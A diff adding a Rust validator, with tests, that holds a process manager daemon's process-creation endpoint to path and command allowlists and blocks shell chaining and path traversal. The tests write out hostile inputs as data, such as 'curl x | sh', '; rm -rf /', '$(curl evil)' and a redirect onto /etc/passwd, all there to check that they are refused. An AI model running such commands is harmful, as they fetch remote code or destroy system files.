@@ -0,0 +1,170 @@
+//! `daemon.web.create_policy` held against what `/process/create` is asked to start.
+//! Anyone with the token could otherwise run any command as the daemon user.
+
+use opm::config::structs::CreatePolicy;
+use regex::Regex;
+use std::path::{Component, Path, PathBuf};
+
+/// What lets a script run more than the one command the allowlist matched, `sh -c` runs it as a whole
+const CHAINING: [&str; 8] = [";", "&", "|", "`", "$(", "\n", "<", ">"];
+
+/// Err names the rule that refused the process
+pub fn check(policy: &CreatePolicy, path: &Path, script: &str) -> Result<(), String> {
+    if !policy.allow_create {
+        return Err(String::from("create_policy: allow_create is false, processes can only be created from the CLI"));
+    }
+
+    if !policy.paths.is_empty() {
+        check_path(&policy.paths, path)?;
+    }
+
+    if !policy.commands.is_empty() {
+        check_command(&policy.commands, script)?;
+    }
+
+    Ok(())
+}
+
+fn check_path(allowed: &[String], path: &Path) -> Result<(), String> {
+    if !path.is_absolute() {
+        return Err(format!("create_policy: path '{}' is relative, it must be absolute and under {}", path.display(), allowed.join(", ")));
+    }
+
+    let path = resolve(path);
+    match allowed.iter().any(|prefix| path.starts_with(resolve(Path::new(prefix)))) {
+        true => Ok(()),
+        false => Err(format!("create_policy: path '{}' is not under {}", path.display(), allowed.join(", "))),
+    }
+}
+
+fn check_command(allowed: &[String], script: &str) -> Result<(), String> {
+    if let Some(chain) = CHAINING.iter().find(|chain| script.contains(*chain)) {
+        return Err(format!("create_policy: script contains '{}', only a single command is allowed", chain.escape_debug()));
+    }
+
+    // Anchored on both ends, `node .*` must not let `bash -c 'node app.js'` through
+    let matches = |pattern: &String| Regex::new(&format!(r"\A(?:{pattern})\z")).is_ok_and(|regex| regex.is_match(script));
+
+    match allowed.iter().any(matches) {
+        true => Ok(()),
+        false => Err(format!("create_policy: script '{script}' matches none of the commands {}", allowed.join(", "))),
+    }
+}
+
+/// `path` with `.` and `..` taken out, and its symlinks followed where it exists
+fn resolve(path: &Path) -> PathBuf {
+    let mut normal = PathBuf::new();
+
+    for component in path.components() {
+        match component {
+            Component::ParentDir => {
+                normal.pop();
+            }
+            Component::CurDir => {}
+            component => normal.push(component),
+        }
+    }
+
+    normal.canonicalize().unwrap_or(normal)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy(paths: &[&str], commands: &[&str]) -> CreatePolicy {
+        CreatePolicy {
+            allow_create: true,
+            paths: paths.iter().map(|path| path.to_string()).collect(),
+            commands: commands.iter().map(|command| command.to_string()).collect(),
+        }
+    }
+
+    #[test]
+    fn test_default_allows_anything() {
+        assert_eq!(check(&CreatePolicy::default(), Path::new("relative"), "curl x | sh"), Ok(()));
+
+        let closed = CreatePolicy { allow_create: false, ..CreatePolicy::default() };
+        assert!(check(&closed, Path::new("/srv/apps/api"), "node index.js").unwrap_err().contains("allow_create is false"));
+    }
+
+    #[test]
+    fn test_paths() {
+        let policy = policy(&["/srv/apps", "/opt/services/"], &[]);
+        let path = |path: &str| check(&policy, Path::new(path), "node index.js");
+
+        assert_eq!(path("/srv/apps"), Ok(()));
+        assert_eq!(path("/srv/apps/api/./src"), Ok(()));
+        assert_eq!(path("/opt/services/worker"), Ok(()));
+
+        // Prefixes are whole directories
+        assert!(path("/srv/apps-old").unwrap_err().contains("is not under /srv/apps, /opt/services/"));
+        assert!(path("/srv/app").is_err());
+
+        // Traversal is resolved before the prefix is compared
+        assert!(path("/srv/apps/../../etc").unwrap_err().contains("path '/etc' is not under"));
+        assert!(path("/srv/apps/api/../..").is_err());
+        assert_eq!(path("/srv/other/../apps/api"), Ok(()));
+
+        // Relative to what the daemon runs in, never allowed with prefixes set
+        assert!(path("srv/apps/api").unwrap_err().contains("is relative"));
+        assert!(path("../srv/apps").is_err());
+        assert!(path("").is_err());
+    }
+
+    #[test]
+    fn test_symlinks_are_followed() {
+        let root = std::env::temp_dir().join(format!("opm-policy-{}", std::process::id()));
+        let allowed = root.join("apps");
+        std::fs::create_dir_all(&allowed).unwrap();
+        std::os::unix::fs::symlink("/etc", allowed.join("escape")).unwrap();
+
+        let policy = policy(&[allowed.to_str().unwrap()], &[]);
+        assert!(check(&policy, &allowed.join("escape"), "node index.js").is_err());
+        assert_eq!(check(&policy, &allowed, "node index.js"), Ok(()));
+
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn test_commands() {
+        let policy = policy(&[], &[r"node [\w./-]+\.js", "python3 -m [a-z_.]+"]);
+        let command = |script: &str| check(&policy, Path::new("relative"), script);
+
+        assert_eq!(command("node index.js"), Ok(()));
+        assert_eq!(command("python3 -m http.server"), Ok(()));
+
+        // The whole script has to match, not a part of it
+        assert!(command("bash -c 'node index.js'").unwrap_err().contains("matches none of the commands"));
+        assert!(command("sh -c node index.js").is_err());
+        assert!(command("/usr/bin/env node index.js").is_err());
+        assert!(command(" node index.js").is_err());
+        assert!(command("node index.js --inspect=0.0.0.0").is_err());
+        assert!(command("nodex index.js").is_err());
+
+        // Chaining another command onto an allowed one
+        assert!(command("node index.js; rm -rf /").unwrap_err().contains("contains ';'"));
+        assert!(command("node index.js && curl evil.sh").is_err());
+        assert!(command("node index.js | sh").is_err());
+        assert!(command("node $(curl evil).js").is_err());
+        assert!(command("node `id`.js").is_err());
+        assert!(command("node index.js\nrm -rf /").unwrap_err().contains("contains '\\n'"));
+        assert!(command("node index.js > /etc/passwd").is_err());
+    }
+
+    #[test]
+    fn test_broken_regexes_match_nothing() {
+        let policy = policy(&[], &["node (", "python3 app.py"]);
+        assert!(check(&policy, Path::new("/"), "node (").is_err());
+        assert_eq!(check(&policy, Path::new("/"), "python3 app.py"), Ok(()));
+    }
+
+    #[test]
+    fn test_paths_and_commands_both_apply() {
+        let policy = policy(&["/srv/apps"], &["node index.js"]);
+
+        assert_eq!(check(&policy, Path::new("/srv/apps/api"), "node index.js"), Ok(()));
+        assert!(check(&policy, Path::new("/tmp"), "node index.js").unwrap_err().contains("path"));
+        assert!(check(&policy, Path::new("/srv/apps/api"), "node other.js").unwrap_err().contains("script"));
+    }
+}